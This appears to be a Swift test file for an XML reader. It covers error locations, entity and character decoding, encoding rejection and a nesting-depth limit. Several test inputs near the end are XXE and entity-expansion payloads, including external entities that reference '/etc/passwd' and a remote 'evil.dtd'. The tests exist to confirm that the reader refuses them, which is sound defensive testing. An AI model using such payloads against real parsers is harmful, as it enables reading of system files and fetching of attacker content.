import Findings
import TestData
import Testing
import TextFormats

@Suite struct `the XML reader` {
    static let mistakes: [(marked: String, kind: XMLProblem.Kind)] = [
        ("«»", .empty), (" <!-- a -->«»", .empty), ("<a>«»", .truncated), ("<a></a«»", .truncated),
        ("<«»", .truncated), ("<a b='«»", .truncated), ("<a><![CDATA[x]]«»", .truncated), ("<a>&am«»", .truncated),
        ("<?xml version='1.0' encoding='«ISO-8859-1»'?><a/>", .unsupportedEncoding),
        ("<a>«\u{1}»</a>", .forbiddenCharacter), ("<a>«&#0;»</a>", .forbiddenCharacter),
        ("<a>«\u{FFFF}»</a>", .forbiddenCharacter), ("<a>«&#xD800;»</a>", .badCharacterReference),
        ("<a>«&#x;»</a>", .badCharacterReference), ("<a>«&#99999999999999999999;»</a>", .badCharacterReference),
        ("<a>«&#»-;</a>", .badCharacterReference), ("<a>x «&» y</a>", .bareAmpersand),
        ("<a>«&»b c</a>", .bareAmpersand), ("<a>«&»;</a>", .bareAmpersand), ("<a>«&nbsp;»</a>", .unknownEntity),
        ("<a b='«&x;»'/>", .unknownEntity), ("<«1»/>", .badName), ("<« »a/>", .badName), ("<a «?»/>", .badName),
        ("<a «b»/>", .badAttribute), ("<a «b»=c/>", .badAttribute), ("<a b='«<»'/>", .badAttribute),
        ("<a b='1'«c»='2'/>", .badAttribute), ("<a b='1' «b»='2'/>", .duplicateAttribute), ("<a «/» >", .badTag),
        ("«<a »<b/>", .badTag), ("<a></a «b»>", .badTag), ("<a></«b»>", .mismatchedEndTag),
        ("<a><b></«a»></b>", .mismatchedEndTag), ("«</a>»", .unexpectedEndTag), ("<a/>«</a>»", .unexpectedEndTag),
        ("«x»<a/>", .textOutside), ("<a/> «x y»\nz", .textOutside), ("«<![CDATA[»x]]><a/>", .textOutside),
        ("<a/>«<b>»</b>", .secondElement), ("<a>«<!»ENTITY b 'c'></a>", .unexpectedDeclaration),
        ("<a/>«<!»DOCTYPE a>", .unexpectedDeclaration), ("«<!»ENTITY b 'c'><a/>", .unexpectedDeclaration),
        ("<!DOCTYPE a SYSTEM \"b>[\" «[»<!ENTITY c 'd'>]><a/>", .internalSubset),
        ("<!DOCTYPE a «<»!ENTITY b 'c'>><a/>", .unexpectedDeclaration), ("<!DOCTYPE a 'b><a/>«»", .truncated),
    ]

    @Test func `keeps the place of an element, its tag, its name, its attributes and its text`() throws {
        let marked = MarkedText(#"<?xml version="1.0"?> ««<«a:b» «é» = "«v w»" z='' >»«t»<c/></a:b >» <!-- end -->"#)
        let root = try XMLReader.read(marked.bytes)
        #expect(root.name == "a:b")
        #expect(root.attributes.map(\.name) == ["é", "z"])
        #expect(root.attribute("é")?.value.string == "v w")
        #expect(root.attribute("z")?.value.string == "")
        let text = try #require(root.children.first.flatMap { if case .text(let text) = $0 { text } else { nil } })
        #expect(text.string == "t")
        #expect(root.elements.map(\.name) == ["c"])
        #expect(root.elements.map(\.isOneTag) == [true])
        let spans = [
            root.nameSpan, root.attributes[0].nameSpan, root.attributes[0].value.span, root.startTagSpan, text.span,
            root.span,
        ]
        #expect(spans == marked.spans)
    }

    @Test(arguments: [
        ("<a>x&amp;y</a>", "x&y"),
        ("<a>&lt;&gt;&apos;&quot;</a>", "<>'\""),
        ("<a>&#65;&#x42;&#x1F511;</a>", "AB\u{1F511}"),
        ("<a>x<!-- <b> -- & -->y</a>", "xy"),
        ("<a>x<![CDATA[<&amp;]]]]>y</a>", "x<&amp;]]y"),
        ("<a>x<?p <b>?>y]]>z</a>", "xy]]>z"),
        ("<a>1\r\n2\r3\n4</a>", "1\n2\n3\n4"),
        ("<a><![CDATA[1\r\n2\r]]></a>", "1\n2\n"),
        ("\u{FEFF}<a>ü</a>", "ü"),
    ])
    func `decodes text`(source: String, expected: String) throws {
        let root = try XMLReader.read(Array(source.utf8))
        #expect(root.children.count == 1)
        #expect(root.texts.map { Array($0.string.utf8) } == [Array(expected.utf8)])
    }

    @Test func `turns line ends and tabs of an attribute into spaces, but not those written as references`() throws {
        let root = try XMLReader.read(Array("<a b='1\t2\r\n3\n4&#9;5&#xA;6'/>".utf8))
        #expect(root.attribute("b")?.value.string == "1 2 3 4\t5\n6")
    }

    @Test(arguments: [
        ("<a>hel«lo» w</a>", 3, 5),
        ("<a>x&amp;«y»z</a>", 2, 3),
        ("<a>x«&amp;»yz</a>", 1, 2),
        ("<a>«x&amp;y»z</a>", 0, 3),
        ("<a>«&#x1F511;»z</a>", 1, 3),
        ("<a>x<!-- -->«yz»</a>", 1, 3),
        ("<a>x<![CDATA[<«&»]]></a>", 2, 3),
        ("<a>1\r\n2«\r\n»3</a>", 3, 4),
        ("<a>1\r\n«2\r\n3»</a>", 2, 5),
        ("<a>x&amp;y«»</a>", 3, 3),
        ("<a>x&amp;y«»</a>", 90, 91),
    ])
    func `leads from a part of the text back to its bytes`(marked: String, start: Int, end: Int) throws {
        let marked = MarkedText(marked)
        let text = try #require(try XMLReader.read(marked.bytes).texts.first)
        #expect([text.span(of: SourceSpan(start, end))] == marked.spans)
    }

    @Test(arguments: [
        ("<a>abc</a>", true), ("<a>a\nü</a>", true), ("<a>a&amp;</a>", false), ("<a>a<!----></a>", true),
        ("<a>a<!---->b</a>", false), ("<a>\r</a>", false), ("<a>&#x41;</a>", false),
    ])
    func `says whether a text stands there byte for byte`(source: String, isLiteral: Bool) throws {
        let text = try #require(try XMLReader.read(Array(source.utf8)).texts.first)
        #expect(text.isLiteral == isLiteral)
    }

    @Test(arguments: mistakes)
    func `points at the mistake`(marked: String, kind: XMLProblem.Kind) {
        let marked = MarkedText(marked)
        let problem = #expect(throws: XMLProblem.self) { try XMLReader.read(marked.bytes) }
        #expect(problem?.kind == kind)
        #expect(problem.map { [$0.span] } == marked.spans)
    }

    @Test func `is tested with every kind of mistake, each with words of its own`() {
        let kinds = Set(Self.mistakes.map(\.kind)).union([.tooDeep, .invalidUTF8])
        #expect(kinds == Set(XMLProblem.Kind.allCases))
        let messages = Set(kinds.map { XMLProblem($0, at: SourceSpan(0, 0)).message })
        #expect(messages.count == kinds.count)
    }

    @Test(arguments: [
        [0xFF], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80],
        [0xF0, 0x80, 0x80, 0x80],
        [0x80], [0xC3], [0xE2, 0x82], [0xF8, 0x88, 0x80, 0x80, 0x80],
    ])
    func `refuses bytes that are not UTF-8`(bytes: [UInt8]) {
        let problem = #expect(throws: XMLProblem.self) {
            try XMLReader.read(Array("<a>".utf8) + bytes + Array("</a>".utf8))
        }
        #expect(problem == XMLProblem(.invalidUTF8, at: SourceSpan(3, 4)))
    }

    @Test(arguments: [[0xFF, 0xFE, 0x3C, 0x00], [0xFE, 0xFF, 0x00, 0x3C], [0x00, 0x3C], [0x3C, 0x00]])
    func `refuses UTF-16 by its first bytes`(bytes: [UInt8]) {
        let problem = #expect(throws: XMLProblem.self) { try XMLReader.read(bytes) }
        #expect(problem?.kind == .unsupportedEncoding)
    }

    @Test func `names the element that was not closed, and the start tag that an end tag does not fit`() {
        let unclosed = MarkedText("<a>«<b c='1'>» ")
        let first = #expect(throws: XMLProblem.self) { try XMLReader.read(unclosed.bytes) }
        #expect(first?.related == unclosed.spans.first)
        let crossed = MarkedText("<a><«b»></a>")
        let second = #expect(throws: XMLProblem.self) { try XMLReader.read(crossed.bytes) }
        #expect(second?.related == crossed.spans.first)
        let doubled = MarkedText("<a «b»='' c='' b=''/>")
        let third = #expect(throws: XMLProblem.self) { try XMLReader.read(doubled.bytes) }
        #expect(third?.related == doubled.spans.first)
    }

    @Test func `reads 512 levels and refuses the next, however many follow`() throws {
        let depth = XMLReader.depthLimit
        let open = { (count: Int) in Array(String(repeating: "<a>", count: count).utf8) }
        let close = { (count: Int) in Array(String(repeating: "</a>", count: count).utf8) }
        var level = try XMLReader.read(open(depth) + close(depth))
        var levels = 1
        while let inner = level.elements.first { (level, levels) = (inner, levels + 1) }
        #expect(levels == depth)
        for count in [depth + 1, 100_000] {
            let problem = #expect(throws: XMLProblem.self) { try XMLReader.read(open(count) + close(count)) }
            #expect(problem == XMLProblem(.tooDeep, at: SourceSpan(depth * 3, depth * 3 + 3)))
        }
    }

    @Test(arguments: [
        "<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://example.com/evil.dtd'> %b;]><a/>",
        "<!DOCTYPE a [<!ATTLIST a b CDATA 'x'>]><a/>",
        "<!DOCTYPE a PUBLIC '-//x' \"y\" [ ]><a/>",
    ])
    func `refuses a document type that declares anything`(source: String) {
        let problem = #expect(throws: XMLProblem.self) { try XMLReader.read(Array(source.utf8)) }
        #expect(problem?.kind == .internalSubset)
    }

    @Test func `leaves an entity of an outer document type unread`() {
        let source = "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a>&b;</a>"
        let problem = #expect(throws: XMLProblem.self) { try XMLReader.read(Array(source.utf8)) }
        #expect(problem?.kind == .unknownEntity)
    }
}

extension XMLElement {
    /// The texts among the children.
    var texts: [LocatedText] { children.compactMap { if case .text(let text) = $0 { text } else { nil } } }
}
